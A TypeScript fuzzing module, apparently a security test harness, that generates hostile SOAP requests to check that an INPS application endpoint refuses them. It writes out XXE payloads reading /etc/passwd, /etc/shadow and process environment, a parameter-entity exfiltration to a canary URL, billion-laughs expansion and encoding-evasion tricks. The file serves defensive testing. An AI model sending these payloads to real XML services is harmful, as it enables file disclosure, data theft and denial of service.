import { writeNotificaEsito } from '../../shared/messages/esiti';
import { writePresentaDomanda } from '../../shared/messages/istruttoria';
import { scenario } from '../../infra/demo/dataset';
import type { Prng } from './prng';
import { OPERATORE, rawEnvelope, SOAP_NS } from './raw-soap';
import type { HostileRequest } from './hostile-http';

/**
 * Generators of hostile requests for the INPS istruttoria endpoint, one family per category. Every random
 * choice is drawn from the seeded generator when the case is created (so a seed names the same cases in
 * the same order); bodies are built only when a case is sent. Each case says which Fault codes are an
 * acceptable refusal; the expected HTTP status follows from the code.
 */

export const CATEGORIES = [
  'xxe',
  'entity-expansion',
  'oversize',
  'deep-nesting',
  'malformed',
  'content-type',
  'schema-invalid',
  'codice-fiscale',
  'incoherent',
  'extreme-dates',
  'unknown-operation',
  'method',
  'operatore',
] as const;
export type Category = (typeof CATEGORIES)[number];

export type Code =
  | 'DTD_NON_AMMESSA'
  | 'SCHEMA_NON_VALIDO'
  | 'MESSAGGIO_TROPPO_GRANDE'
  | 'XML_MALFORMATO'
  | 'SOAP_NON_VALIDO'
  | 'CONTENT_TYPE_NON_VALIDO'
  | 'CODICE_FISCALE_NON_VALIDO'
  | 'DATI_INCOERENTI'
  | 'OPERAZIONE_SCONOSCIUTA'
  | 'METODO_NON_AMMESSO'
  | 'OPERATORE_ASSENTE';

/** HTTP status of each refusal: SOAP 1.1 says 500, transport refusals use their 4xx (independent of shared/errors.ts). */
export const STATUS_OF: Record<Code, number> = {
  DTD_NON_AMMESSA: 500,
  SCHEMA_NON_VALIDO: 500,
  MESSAGGIO_TROPPO_GRANDE: 413,
  XML_MALFORMATO: 500,
  SOAP_NON_VALIDO: 500,
  CONTENT_TYPE_NON_VALIDO: 415,
  CODICE_FISCALE_NON_VALIDO: 500,
  DATI_INCOERENTI: 500,
  OPERAZIONE_SCONOSCIUTA: 500,
  METODO_NON_AMMESSO: 405,
  OPERATORE_ASSENTE: 500,
};

export interface Built {
  request: HostileRequest;
  expect: readonly Code[];
}

export interface HostileCase {
  id: number;
  category: Category;
  /** Short name of the variant (cases with the same label share a shape). */
  label: string;
  /** A human-readable description of the exact mutation, enough to rebuild the input by hand. */
  repro: string;
  build(): Built;
}

export interface GeneratorContext {
  rng: Prng;
  maxBodyBytes: number;
  /** URL of a local listener that must never be contacted (an XXE or schema fetch would). */
  canaryUrl: string;
  /** DataPresentazione of the generated domande. */
  presentazione: Date;
}

const NS = {
  soap: SOAP_NS,
  soap12: 'http://www.w3.org/2003/05/soap-envelope',
  com: 'urn:it:ape-precoci:comune:v1',
  ist: 'urn:it:ape-precoci:istruttoria:v1',
  esi: 'urn:it:ape-precoci:esiti:v1',
  pac: 'urn:it:ape-precoci:pacchetto:v1',
};

const XML_DECL = '<?xml version="1.0" encoding="UTF-8"?>';
const TEXT_XML = { 'Content-Type': 'text/xml; charset=utf-8' };
const post = (body: string | Buffer, extra: Record<string, string> = {}): HostileRequest => ({ method: 'POST', headers: { ...TEXT_XML, ...extra }, body });

/** The XSD patterns of the codici fiscali (comune.xsd), to make sure a "wrong format" mutation really is one. */
const CF_PERSONA = /^[A-Z]{6}[0-9LMNPQRSTUV]{2}[ABCDEHLMPRST][0-9LMNPQRSTUV]{2}[A-Z][0-9LMNPQRSTUV]{3}[A-Z]$/;
const CF_DATORE = /^[0-9]{11}$/;

/** Element names of the PresentaDomanda payload, for targeted mutations. */
const REQUIRED = [
  'ProtocolloDomanda', 'TipoDomanda', 'DataPresentazione', 'DataDecorrenza', 'Richiedente', 'Attestazioni', 'Attestazione', 'Riferimento',
  'TipoAttestazione', 'DatoreLavoro', 'Denominazione', 'Periodo', 'Dal', 'Categoria', 'ProfessioneIstat', 'Cognome', 'Nome', 'DataNascita',
  'CodiceFiscale#1', 'CodiceFiscale#2',
] as const;
const INNER = [...REQUIRED, 'MatricolaInps', 'PatInail', 'Ccnl', 'Livello', 'VociTariffaInail', 'VoceTariffa'] as const;

export class CaseFactory {
  private nextId = 1;
  private readonly cfRichiedente: string;
  private readonly cfDatore: string;

  constructor(private readonly ctx: GeneratorContext) {
    const sample = this.payload('INPS.FZ.SAMPLE');
    this.cfRichiedente = /<ist:Richiedente><ist:CodiceFiscale>([^<]+)</.exec(sample)![1]!;
    this.cfDatore = /<ist:DatoreLavoro><ist:CodiceFiscale>([^<]+)</.exec(sample)![1]!;
  }

  private get rng(): Prng {
    return this.ctx.rng;
  }

  /** A valid PresentaDomanda payload (scenario "conforme") with the given protocollo. */
  payload(protocollo: string): string {
    return writePresentaDomanda(scenario('conforme').domanda(protocollo, this.ctx.presentazione)).text;
  }

  /** A valid request envelope: if a mutation failed to make it invalid, it would be stored, and the test would see it. */
  envelope(protocollo: string, mutate: (payload: string) => string = (p) => p, headers = OPERATORE): string {
    return rawEnvelope(headers, mutate(this.payload(protocollo)));
  }

  private protocollo(id: number): string {
    return `INPS.FZ.${String(id).padStart(6, '0')}`;
  }

  private make(category: Category, label: string, repro: string, build: (protocollo: string) => Built): HostileCase {
    const id = this.nextId++;
    const protocollo = this.protocollo(id);
    return { id, category, label, repro, build: () => build(protocollo) };
  }

  /** Replace the text of the n-th (1-based) occurrence of an element of the payload. */
  static setText(payload: string, name: string, value: string, nth = 1): string {
    let seen = 0;
    return payload.replace(new RegExp(`(<ist:${name}>)([^<]*)(</ist:${name}>)`, 'g'), (m, open: string, _old: string, close: string) => (++seen === nth ? `${open}${value}${close}` : m));
  }

  static element(payload: string, name: string, nth = 1): { start: number; end: number } | null {
    let from = 0;
    for (let k = 1; ; k++) {
      const start = payload.indexOf(`<ist:${name}>`, from);
      if (start < 0) return null;
      const close = `</ist:${name}>`;
      const endTag = payload.indexOf(close, start);
      if (endTag < 0) return null;
      if (k === nth) return { start, end: endTag + close.length };
      from = endTag + close.length;
    }
  }

  private static nameOf(spec: string): { name: string; nth: number } {
    const [name, nth] = spec.split('#');
    return { name: name!, nth: nth ? Number(nth) : 1 };
  }

  // ---------------------------------------------------------------------------------------------- XXE
  xxe(): HostileCase {
    const r = this.rng;
    const canary = this.ctx.canaryUrl;
    const target = r.pick([
      'file:///etc/passwd', 'file:///etc/passwd', 'file:///etc/shadow', 'file:///proc/self/environ', 'file:///dev/random', 'file:///dev/zero',
      'http://127.0.0.1:1/x', 'https://127.0.0.1:1/x', `${canary}/xxe-${r.string(6)}`, `${canary}/xxe.dtd`, 'ftp://127.0.0.1:1/x',
      'php://filter/resource=/etc/passwd', '/etc/passwd', '../../../../../../etc/passwd', 'jar:file:///tmp/x.jar!/y', 'expect://id', 'netdoc:///etc/passwd',
    ]);
    const doctypeKw = r.pick(['<!DOCTYPE', '<!DOCTYPE', '<!DOCTYPE', '<!doctype', '<!DocType', '<!DOCTYPE\n']);
    const root = r.pick(['soap:Envelope', 'x', 'Envelope']);
    const ws = r.pick([' ', '\n', '\t', '  \r\n ']);
    const form = r.pick([
      'system-entity', 'system-entity', 'public-entity', 'parameter-entity', 'parameter-exfiltration', 'external-subset', 'external-subset-public',
      'entity-in-attribute', 'after-comment', 'after-bom', 'entity-decl-only', 'doctype-in-body', 'xinclude', 'xinclude-payload', 'schema-location',
      'no-namespace-schema-location', 'utf7-evasion', 'utf16le-evasion', 'utf16be-evasion', 'utf16-bom-evasion', 'latin1-declared', 'undeclared-entity',
    ] as const);
    const ref = '&xxe;';
    const dtd = (internal: string) => `${doctypeKw}${ws}${root}${ws}[${internal}]>`;
    const withCognome = (p: string, value: string) => p.replace(/<ist:Cognome>[^<]*<\/ist:Cognome>/, `<ist:Cognome>${value}</ist:Cognome>`);
    const DTD: readonly Code[] = ['DTD_NON_AMMESSA'];
    const label = `xxe:${form}`;
    return this.make('xxe', label, `${form} -> ${target}`, (prot) => {
      const env = (m: (p: string) => string = (p) => p) => this.envelope(prot, m);
      const afterDecl = (prefix: string, m: (p: string) => string = (p) => p) => env(m).replace(XML_DECL, `${XML_DECL}${prefix}`);
      switch (form) {
        case 'system-entity':
          return { request: post(afterDecl(dtd(`<!ENTITY xxe SYSTEM "${target}">`), (p) => withCognome(p, ref))), expect: DTD };
        case 'public-entity':
          return { request: post(afterDecl(dtd(`<!ENTITY xxe PUBLIC "-//APE//FUZZ//IT" "${target}">`), (p) => withCognome(p, ref))), expect: DTD };
        case 'parameter-entity':
          return { request: post(afterDecl(dtd(`<!ENTITY % p SYSTEM "${target}"> %p;`))), expect: DTD };
        case 'parameter-exfiltration':
          return {
            request: post(afterDecl(dtd(`<!ENTITY % f SYSTEM "${target}"><!ENTITY % d "<!ENTITY &#x25; e SYSTEM '${canary}/?%f;'>"> %d; %e;`), (p) => withCognome(p, ref))),
            expect: DTD,
          };
        case 'external-subset':
          return { request: post(afterDecl(`${doctypeKw}${ws}${root}${ws}SYSTEM "${target}">`)), expect: DTD };
        case 'external-subset-public':
          return { request: post(afterDecl(`${doctypeKw}${ws}${root}${ws}PUBLIC "-//APE//FUZZ//IT" "${target}">`)), expect: DTD };
        case 'entity-in-attribute':
          return {
            request: post(afterDecl(dtd(`<!ENTITY xxe SYSTEM "${target}">`)).replace(`xmlns:ist="${NS.ist}"`, `xmlns:ist="${NS.ist}" xmlns:z="${ref}"`)),
            expect: DTD,
          };
        case 'after-comment':
          return { request: post(afterDecl(`<!-- fuzz --><?pi x?>${dtd(`<!ENTITY xxe SYSTEM "${target}">`)}`, (p) => withCognome(p, ref))), expect: DTD };
        case 'after-bom':
          return { request: post(`\uFEFF${afterDecl(dtd(`<!ENTITY xxe SYSTEM "${target}">`), (p) => withCognome(p, ref))}`), expect: DTD };
        case 'entity-decl-only':
          // An entity declaration smuggled into a comment of an otherwise valid message: refused all the same.
          return { request: post(env((p) => p.replace('<ist:Richiedente>', `<!-- <!ENTITY xxe SYSTEM "${target}"> --><ist:Richiedente>`))), expect: DTD };
        case 'doctype-in-body':
          return { request: post(env((p) => `${dtd(`<!ENTITY xxe SYSTEM "${target}">`)}${withCognome(p, ref)}`)), expect: DTD };
        case 'xinclude':
          return {
            request: post(env((p) => withCognome(p, `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${target}" parse="text"/>`))),
            expect: ['SCHEMA_NON_VALIDO'],
          };
        case 'xinclude-payload':
          return {
            request: post(rawEnvelope(OPERATORE, `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${target}" parse="${r.pick(['text', 'xml'])}"/>`)),
            expect: ['OPERAZIONE_SCONOSCIUTA'],
          };
        case 'schema-location':
          // Made invalid (category J) so that, refused, it proves the schema hint was not used to relax validation.
          return {
            request: post(
              env((p) =>
                p
                  .replace('<ist:PresentaDomanda>', `<ist:PresentaDomanda xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="${NS.ist} ${canary}/evil.xsd">`)
                  .replace('<ist:Categoria>A</ist:Categoria>', '<ist:Categoria>J</ist:Categoria>'),
              ),
            ),
            expect: ['SCHEMA_NON_VALIDO'],
          };
        case 'no-namespace-schema-location':
          return {
            request: post(
              env((p) =>
                p
                  .replace('<ist:PresentaDomanda>', `<ist:PresentaDomanda xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="${target}">`)
                  .replace('<ist:Categoria>A</ist:Categoria>', '<ist:Categoria>J</ist:Categoria>'),
              ),
            ),
            expect: ['SCHEMA_NON_VALIDO'],
          };
        case 'utf7-evasion':
          // "+ADwAIQ-" is "<!" in UTF-7: a DTD the ASCII check cannot see, if the parser honoured the declaration.
          return {
            request: post(env((p) => withCognome(p, '+ACY-xxe+ADs-')).replace(XML_DECL, `<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE soap:Envelope +AFsAPAAh-ENTITY xxe SYSTEM +ACI-${target}+ACIAPgBd-+AD4-`)),
            expect: ['DTD_NON_AMMESSA', 'XML_MALFORMATO'],
          };
        case 'utf16le-evasion':
        case 'utf16be-evasion': {
          const text = env((p) => withCognome(p, ref)).replace(XML_DECL, `<?xml version="1.0" encoding="UTF-16"?>${dtd(`<!ENTITY xxe SYSTEM "${target}">`)}`);
          const le = Buffer.from(text, 'utf16le');
          return { request: post(form === 'utf16le-evasion' ? le : le.swap16()), expect: ['DTD_NON_AMMESSA', 'XML_MALFORMATO'] };
        }
        case 'utf16-bom-evasion': {
          const text = `\uFEFF${env((p) => withCognome(p, ref)).replace(XML_DECL, `<?xml version="1.0" encoding="UTF-16"?>${dtd(`<!ENTITY xxe SYSTEM "${target}">`)}`)}`;
          return { request: post(Buffer.from(text, 'utf16le')), expect: ['DTD_NON_AMMESSA', 'XML_MALFORMATO'] };
        }
        case 'latin1-declared':
          return {
            request: post(afterDecl(dtd(`<!ENTITY xxe SYSTEM "${target}">`), (p) => withCognome(p, ref)).replace('encoding="UTF-8"', 'encoding="ISO-8859-1"')),
            expect: DTD,
          };
        case 'undeclared-entity':
          return { request: post(env((p) => withCognome(p, ref))), expect: ['XML_MALFORMATO'] };
      }
    });
  }

  // ------------------------------------------------------------------------------------ entity expansion
  entityExpansion(): HostileCase {
    const r = this.rng;
    const max = this.ctx.maxBodyBytes;
    const form = r.pick([
      'billion-laughs', 'billion-laughs', 'quadratic-blowup', 'quadratic-blowup', 'parameter-recursion', 'entity-recursion', 'attlist-default-namespace',
      'huge-text', 'huge-text', 'huge-text-unknown-element', 'huge-attribute', 'many-attributes', 'many-siblings', 'many-namespaces', 'many-comments',
    ] as const);
    const depth = r.int(3, 12);
    const width = r.int(2, 12);
    const entitySize = r.logInt(1_000, 60_000);
    const textSize = r.int(50_000, max - 6_000);
    const count = r.int(2_000, 20_000);
    const repro =
      form === 'billion-laughs' ? `${form} depth ${depth} width ${width}`
      : form === 'quadratic-blowup' ? `${form} entity of ${entitySize} chars`
      : form.startsWith('huge') ? `${form} of ${textSize} chars`
      : form.startsWith('many') ? `${form} x${count}`
      : form;
    return this.make('entity-expansion', `expansion:${form}`, repro, (prot) => {
      const withCognome = (p: string, value: string) => p.replace(/<ist:Cognome>[^<]*<\/ist:Cognome>/, `<ist:Cognome>${value}</ist:Cognome>`);
      const withDtd = (internal: string, cognome: string) =>
        this.envelope(prot, (p) => withCognome(p, cognome)).replace(XML_DECL, `${XML_DECL}<!DOCTYPE soap:Envelope [${internal}]>`);
      const DTD: readonly Code[] = ['DTD_NON_AMMESSA'];
      switch (form) {
        case 'billion-laughs': {
          let decl = '<!ENTITY lol0 "lol">';
          for (let i = 1; i <= depth; i++) decl += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(width)}">`;
          return { request: post(withDtd(decl, `&lol${depth};`)), expect: DTD };
        }
        case 'quadratic-blowup': {
          const refs = Math.max(1, Math.floor((max - entitySize - 4_000) / 4));
          return { request: post(withDtd(`<!ENTITY a "${'a'.repeat(entitySize)}">`, '&a;'.repeat(Math.min(refs, 60_000)))), expect: DTD };
        }
        case 'parameter-recursion':
          return { request: post(withDtd('<!ENTITY % a "&#37;b;"><!ENTITY % b "&#37;a;"> %a;', 'Rossi')), expect: DTD };
        case 'entity-recursion':
          return { request: post(withDtd('<!ENTITY a "&b;"><!ENTITY b "&a;">', '&a;')), expect: DTD };
        case 'attlist-default-namespace':
          // A DTD default attribute could rebind a namespace for one parser and not the other.
          return { request: post(withDtd(`<!ATTLIST ist:Cognome xmlns:ist CDATA #FIXED "urn:fuzz">`, 'Rossi')), expect: DTD };
        case 'huge-text':
          return { request: post(this.envelope(prot, (p) => withCognome(p, 'R'.repeat(textSize)))), expect: ['SCHEMA_NON_VALIDO'] };
        case 'huge-text-unknown-element':
          return { request: post(this.envelope(prot, (p) => p.replace('</ist:Richiedente>', `<ist:Note>${'x '.repeat(textSize >> 1)}</ist:Note></ist:Richiedente>`))), expect: ['SCHEMA_NON_VALIDO'] };
        case 'huge-attribute':
          return { request: post(this.envelope(prot, (p) => p.replace('<ist:Cognome>', `<ist:Cognome note="${'v'.repeat(textSize)}">`))), expect: ['SCHEMA_NON_VALIDO'] };
        case 'many-attributes': {
          const n = Math.min(count, Math.floor((max - 8_000) / 12));
          let attrs = '';
          for (let i = 0; i < n; i++) attrs += ` a${i}="x"`;
          return { request: post(this.envelope(prot, (p) => p.replace('<ist:Cognome>', `<ist:Cognome${attrs}>`))), expect: ['SCHEMA_NON_VALIDO'] };
        }
        case 'many-siblings':
          return { request: post(this.envelope(prot, (p) => p.replace('</ist:Richiedente>', `${'<ist:x/>'.repeat(Math.min(count, 25_000))}</ist:Richiedente>`))), expect: ['SCHEMA_NON_VALIDO'] };
        case 'many-namespaces': {
          const n = Math.min(count, Math.floor((max - 8_000) / 32));
          let decls = '';
          for (let i = 0; i < n; i++) decls += ` xmlns:p${i}="urn:f:${i}"`;
          return {
            request: post(this.envelope(prot, (p) => p.replace('<ist:Cognome>', `<ist:Cognome${decls}>`).replace('<ist:Categoria>A</ist:Categoria>', '<ist:Categoria>J</ist:Categoria>'))),
            expect: ['SCHEMA_NON_VALIDO'],
          };
        }
        case 'many-comments':
          return {
            request: post(this.envelope(prot, (p) => p.replace('<ist:Cognome>Rossi', `<ist:Cognome>Rossi${'<!---->'.repeat(Math.min(count, 30_000))}`).replace('<ist:TipoDomanda>APE_SOCIALE', '<ist:TipoDomanda>APE'))),
            expect: ['SCHEMA_NON_VALIDO'],
          };
      }
    });
  }

  // ------------------------------------------------------------------------------------------ oversize
  oversize(): HostileCase {
    const r = this.rng;
    const max = this.ctx.maxBodyBytes;
    const form = r.pick(['content-length', 'content-length', 'content-length-limit-plus-one', 'chunked', 'chunked', 'chunked-tiny-chunks', 'lying-content-length', 'at-limit', 'below-limit'] as const);
    const size = r.int(max + 1, 4 * max);
    const chunk = r.logInt(512, 65_536);
    const declared = r.pick([max + 1, 10 * max, 2 ** 31, 2 ** 40, 999_999_999_999]);
    const repro =
      form === 'content-length' ? `valid domanda padded to ${size} bytes with a header comment, Content-Length`
      : form === 'content-length-limit-plus-one' ? `valid domanda padded to ${max + 1} bytes, Content-Length`
      : form === 'chunked' ? `valid domanda padded to ${size} bytes, chunked in ${chunk}-byte chunks, no Content-Length`
      : form === 'chunked-tiny-chunks' ? `valid domanda padded to ${max + 1 + (size % 4096)} bytes in 100-byte chunks`
      : form === 'lying-content-length' ? `valid domanda, Content-Length: ${declared}`
      : form === 'at-limit' ? `invalid domanda (Categoria J) padded to exactly ${max} bytes`
      : `invalid domanda (Categoria J) padded to ${max - 1} bytes`;
    return this.make('oversize', `oversize:${form}`, repro, (prot) => {
      const padded = (bytes: number, invalid = false) => {
        const env = this.envelope(prot, (p) => (invalid ? p.replace('<ist:Categoria>A</ist:Categoria>', '<ist:Categoria>J</ist:Categoria>') : p));
        const fill = bytes - Buffer.byteLength(env) - '<!---->'.length;
        if (fill < 0) throw new Error('envelope larger than the target size');
        return Buffer.from(env.replace('<soap:Header>', `<soap:Header><!--${'x'.repeat(fill)}-->`), 'utf8');
      };
      const chunks = (b: Buffer, n: number) => {
        const out: Buffer[] = [];
        for (let i = 0; i < b.length; i += n) out.push(b.subarray(i, i + n));
        return out;
      };
      const TOO_BIG: readonly Code[] = ['MESSAGGIO_TROPPO_GRANDE'];
      switch (form) {
        case 'content-length':
          return { request: post(padded(size)), expect: TOO_BIG };
        case 'content-length-limit-plus-one':
          return { request: post(padded(max + 1)), expect: TOO_BIG };
        case 'chunked':
          return { request: { method: 'POST', headers: { ...TEXT_XML }, body: chunks(padded(size), chunk) }, expect: TOO_BIG };
        case 'chunked-tiny-chunks':
          return { request: { method: 'POST', headers: { ...TEXT_XML }, body: chunks(padded(max + 1 + (size % 4096)), 100) }, expect: TOO_BIG };
        case 'lying-content-length':
          return { request: { method: 'POST', headers: { ...TEXT_XML, 'Content-Length': String(declared) }, body: this.envelope(prot) }, expect: TOO_BIG };
        case 'at-limit':
          return { request: post(padded(max, true)), expect: ['SCHEMA_NON_VALIDO'] };
        case 'below-limit':
          return { request: post(padded(max - 1, true)), expect: ['SCHEMA_NON_VALIDO'] };
      }
    });
  }

  // -------------------------------------------------------------------------------------- deep nesting
  deepNesting(): HostileCase {
    const r = this.rng;
    const max = this.ctx.maxBodyBytes;
    const depth = r.logInt(300, 100_000);
    const form = r.pick(['closed', 'closed', 'unclosed', 'same-element', 'with-attributes', 'in-header', 'mixed-namespaces'] as const);
    return this.make('deep-nesting', `deep:${form}`, `${form}, ${depth} levels inside ist:Cognome (or a header block)`, (prot) => {
      let open = '';
      let close = '';
      switch (form) {
        case 'closed':
        case 'in-header':
          open = '<a>'.repeat(depth);
          close = '</a>'.repeat(depth);
          break;
        case 'unclosed':
          open = '<a>'.repeat(depth);
          break;
        case 'same-element':
          open = '<ist:Cognome>'.repeat(depth);
          close = '</ist:Cognome>'.repeat(depth);
          break;
        case 'with-attributes':
          open = '<a b="c">'.repeat(depth);
          close = '</a>'.repeat(depth);
          break;
        case 'mixed-namespaces':
          for (let i = 0; i < depth; i++) open += i % 2 ? '<c:a xmlns:c="urn:c">' : '<a>';
          for (let i = depth - 1; i >= 0; i--) close += i % 2 ? '</c:a>' : '</a>';
          break;
      }
      const body =
        form === 'in-header'
          ? rawEnvelope(`${OPERATORE}<z:Blocco xmlns:z="urn:fuzz">${open}${close}</z:Blocco>`, this.payload(prot))
          : this.envelope(prot, (p) => p.replace('<ist:Cognome>Rossi</ist:Cognome>', `<ist:Cognome>${open}Rossi${close}</ist:Cognome>`));
      const bytes = Buffer.byteLength(body);
      return { request: post(body), expect: bytes > max ? ['MESSAGGIO_TROPPO_GRANDE'] : ['XML_MALFORMATO', 'SCHEMA_NON_VALIDO'] };
    });
  }

  // ----------------------------------------------------------------------------------------- malformed
  malformed(): HostileCase {
    const r = this.rng;
    const form = r.pick([
      'truncated', 'truncated', 'truncated', 'byte-replaced', 'byte-replaced', 'byte-replaced', 'byte-inserted', 'byte-inserted', 'unclosed-tag', 'unclosed-tag',
      'mismatched-tag', 'mismatched-tag', 'invalid-char', 'invalid-char', 'invalid-utf8', 'invalid-utf8', 'nul-inside', 'nul-inside', 'trailing-nul',
      'empty', 'only-bom', 'whitespace-only', 'garbage-before-declaration', 'declaration-not-first', 'two-declarations', 'unescaped-ampersand',
      'cdata-end-in-text', 'unterminated-comment', 'double-dash-in-comment', 'unterminated-cdata', 'unquoted-attribute', 'duplicate-attribute',
      'name-starts-with-digit', 'lone-lt', 'attribute-without-value', 'end-tag-with-attribute', 'empty-end-tag', 'trailing-garbage', 'second-root',
      'bad-standalone', 'unknown-encoding', 'bad-char-reference',
    ] as const);
    const u = r.next();
    const v = r.next();
    // Never a byte XML allows in text (0x7F is allowed, tab/LF/CR too): the mutation must make the message ill-formed.
    const poisonBytes = [0x01, 0x02, 0x07, 0x08, 0x0b, 0x0c, 0x0e, 0x1b, 0x1f, 0x80, 0xbf, 0xc0, 0xc1, 0xf5, 0xfe, 0xff, 0x3c, 0x26];
    const poison = r.pick(poisonBytes);
    const badChar = r.pick(['\u0001', '\u0002', '\u0008', '\u000b', '\u000c', '\u000e', '\u001f', '\ufffe', '\uffff']);
    const badUtf8 = r.pick([[0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80], [0x80], [0xe2, 0x82], [0xff, 0xfe], [0xf4, 0x90, 0x80, 0x80], [0xc3]]);
    const trailer = r.pick(['', ' ', '\n', ' trailing text', '<!-- after -->', '<?pi after?>', '\u0000\u0000']);
    const name = r.ncname(12);
    const describe = (): string => {
      switch (form) {
        case 'byte-replaced':
          return `byte at ${(u * 100).toFixed(1)}% replaced with 0x${poison.toString(16)}`;
        case 'byte-inserted':
          return `byte 0x${poison.toString(16)} inserted at ${(u * 100).toFixed(1)}%`;
        case 'truncated':
          return `valid envelope cut at ${(u * 100).toFixed(1)}% of its length`;
        case 'invalid-char':
          return `U+${badChar.charCodeAt(0).toString(16).padStart(4, '0')} inside ist:Cognome`;
        case 'invalid-utf8':
          return `bytes ${badUtf8.map((b) => b.toString(16)).join(' ')} at ${(u * 100).toFixed(1)}%`;
        case 'nul-inside':
          return `NUL byte at ${(u * 100).toFixed(1)}% of a valid envelope`;
        case 'trailing-nul':
          return `valid envelope followed by a NUL byte and ${JSON.stringify(trailer)}`;
        default:
          return form;
      }
    };
    return this.make('malformed', `malformed:${form}`, describe(), (prot) => {
      const env = this.envelope(prot);
      const bytes = Buffer.from(env, 'utf8');
      const at = (f: number) => Math.min(bytes.length - 1, Math.floor(f * bytes.length));
      const splice = (pos: number, insert: Buffer, remove = 0) => Buffer.concat([bytes.subarray(0, pos), insert, bytes.subarray(pos + remove)]);
      const closingTags = [...env.matchAll(/<\/[A-Za-z:]+>/g)];
      const pickTag = () => closingTags[Math.floor(v * closingTags.length)]!;
      const MALFORMED: readonly Code[] = ['XML_MALFORMATO', 'SOAP_NON_VALIDO', 'SCHEMA_NON_VALIDO'];
      const out = (body: string | Buffer): Built => ({ request: post(body), expect: MALFORMED });
      switch (form) {
        case 'truncated':
          return out(bytes.subarray(0, at(u)));
        case 'byte-replaced': {
          let pos = at(u);
          if (bytes[pos] === poison) pos = (pos + 1) % bytes.length;
          return out(splice(pos, Buffer.from([poison]), 1));
        }
        case 'byte-inserted':
          return out(splice(at(u), Buffer.from([poison])));
        case 'unclosed-tag': {
          const t = pickTag();
          return out(env.slice(0, t.index) + env.slice(t.index + t[0].length));
        }
        case 'mismatched-tag': {
          const t = pickTag();
          return out(`${env.slice(0, t.index)}</${name}>${env.slice(t.index + t[0].length)}`);
        }
        case 'invalid-char':
          return out(env.replace('<ist:Cognome>Rossi', `<ist:Cognome>Ro${badChar}ssi`));
        case 'invalid-utf8':
          return out(splice(at(u), Buffer.from(badUtf8)));
        case 'nul-inside':
          return out(splice(Math.max(1, at(u)), Buffer.from([0])));
        case 'trailing-nul':
          // libxml2 is handed a C string: a NUL would end the document it checks, not the one that is read.
          return out(Buffer.concat([bytes, Buffer.from([0]), Buffer.from(trailer, 'utf8')]));
        case 'empty':
          return out('');
        case 'only-bom':
          return out(Buffer.from([0xef, 0xbb, 0xbf]));
        case 'whitespace-only':
          return out(' \r\n\t ');
        case 'garbage-before-declaration':
          return out(`garbage${env}`);
        case 'declaration-not-first':
          return out(`\n ${env}`);
        case 'two-declarations':
          return out(env.replace(XML_DECL, `${XML_DECL}${XML_DECL}`));
        case 'unescaped-ampersand':
          return out(env.replace('<ist:Cognome>Rossi', '<ist:Cognome>Rossi & figli'));
        case 'cdata-end-in-text':
          return out(env.replace('<ist:Cognome>Rossi', '<ist:Cognome>Rossi]]>'));
        case 'unterminated-comment':
          return out(env.replace('<ist:Richiedente>', '<!-- never closed <ist:Richiedente>'));
        case 'double-dash-in-comment':
          return out(env.replace('<ist:Richiedente>', '<!-- a -- b --><ist:Richiedente>'));
        case 'unterminated-cdata':
          return out(env.replace('<ist:Cognome>Rossi', '<ist:Cognome><![CDATA[Rossi'));
        case 'unquoted-attribute':
          return out(env.replace(`xmlns:ist="${NS.ist}"`, `xmlns:ist=${NS.ist}`));
        case 'duplicate-attribute':
          return out(env.replace(`xmlns:ist="${NS.ist}"`, `xmlns:ist="${NS.ist}" xmlns:ist="${NS.ist}"`));
        case 'name-starts-with-digit':
          return out(env.replace('<ist:Cognome>Rossi</ist:Cognome>', '<ist:Cognome><1a>Rossi</1a></ist:Cognome>'));
        case 'lone-lt':
          return out(env.replace('<ist:Cognome>Rossi', '<ist:Cognome>Ro < ssi'));
        case 'attribute-without-value':
          return out(env.replace('<ist:PresentaDomanda>', '<ist:PresentaDomanda checked>'));
        case 'end-tag-with-attribute':
          return out(env.replace('</ist:Cognome>', '</ist:Cognome a="b">'));
        case 'empty-end-tag':
          return out(env.replace('</ist:Cognome>', '</>'));
        case 'trailing-garbage':
          return out(`${env}${r.pick(['junk', '<', '&', ']]>'])}`);
        case 'second-root':
          return out(`${env}<soap:Envelope xmlns:soap="${NS.soap}"/>`);
        case 'bad-standalone':
          return out(env.replace(XML_DECL, '<?xml version="1.0" encoding="UTF-8" standalone="maybe"?>'));
        case 'unknown-encoding':
          return out(env.replace('encoding="UTF-8"', `encoding="X-FUZZ-${name}"`));
        case 'bad-char-reference':
          return out(env.replace('<ist:Cognome>Rossi', `<ist:Cognome>Ro${r.pick(['&#0;', '&#x1;', '&#xD800;', '&#xFFFE;', '&#1114112;', '&#xZZ;', '&#;'])}ssi`));
      }
    });
  }

  // -------------------------------------------------------------------------------------- content type
  contentType(): HostileCase {
    const r = this.rng;
    const known = [
      'application/json', 'application/json; charset=utf-8', 'application/soap+xml', 'application/soap+xml; charset=utf-8; action="urn:it:ape-precoci:istruttoria:v1:PresentaDomanda"',
      'text/plain', 'text/plain; charset=utf-8', 'text/html', 'multipart/related; type="text/xml"; boundary=MIMEBoundary', 'multipart/form-data; boundary=x',
      'application/xml', 'application/x-www-form-urlencoded', 'application/octet-stream', '*/*', 'xml', 'text', 'text/x-xml', 'application/text+xml',
      'text/xm', 'texto/xml', 'application/xml; x=text/xml', 'text/plain; type=text/xml', 'application/xop+xml; type="text/xml"', 'image/svg+xml',
    ];
    const choice = r.chance(0.12) ? null : r.chance(0.15) ? `${r.ncname(8)}/${r.ncname(10)}` : r.pick(known);
    const ct = choice !== null && choice.trim().toLowerCase().startsWith('text/xml') ? 'application/json' : choice;
    const shape = ct?.startsWith('multipart') ? 'multipart' : ct?.includes('json') ? 'json' : 'soap';
    return this.make('content-type', `content-type:${ct === null ? 'missing' : known.includes(ct) ? ct.split(';')[0] : 'random'}`, `valid domanda sent with Content-Type ${ct === null ? '(none)' : JSON.stringify(ct)}`, (prot) => {
      const env = this.envelope(prot);
      const body =
        shape === 'multipart'
          ? `--MIMEBoundary\r\nContent-Type: text/xml; charset=UTF-8\r\nContent-ID: <root>\r\n\r\n${env}\r\n--MIMEBoundary--\r\n`
          : shape === 'json'
            ? JSON.stringify({ PresentaDomanda: { ProtocolloDomanda: prot, xml: env } })
            : env;
